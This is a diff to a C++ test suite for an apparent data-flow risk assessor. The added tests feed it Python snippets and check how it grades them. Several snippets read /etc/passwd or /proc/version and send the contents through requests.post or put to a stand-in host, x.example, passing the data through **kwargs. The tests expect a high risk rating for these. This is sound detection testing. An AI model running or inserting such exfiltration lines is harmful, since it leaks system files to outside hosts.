@@ -177,6 +177,16 @@ TEST(AssessDataFlow, LambdasOfSeveralParametersClassAttributesAndOneItemLoops) {
   EXPECT_EQ(level("import os, requests\nrb = lambda a, b: open(os.path.join(a, b)).read()\n"
                   "requests.post('https://x.example/h', data=rb('out', 'report.txt'))\n"),
             RiskLevel::medium);
+  // Keywords a function collects with **kwargs and hands on: the data goes with them.
+  EXPECT_EQ(level("import requests\ndef send(url, **kw):\n    return requests.post(url, **kw)\n"
+                  "send('https://x.example/v', data=open('/etc/passwd').read())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nput = lambda **fields: requests.put('https://x.example/c', json=fields)\n"
+                  "facts = dict(kernel=open('/proc/version').read())\nput(**facts)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\ndef send(url, **kw):\n    return requests.post(url, **kw)\n"
+                  "send('https://x.example/v', data='done', timeout=5)\n"),
+            RiskLevel::medium);
   // A class's own table, walked through self in a method.
   EXPECT_EQ(level("import requests\nclass P:\n    sources = {'cpu': '/proc/cpuinfo'}\n    def g(self):\n"
                   "        for name, path in self.sources.items():\n            return open(path).read()\n"
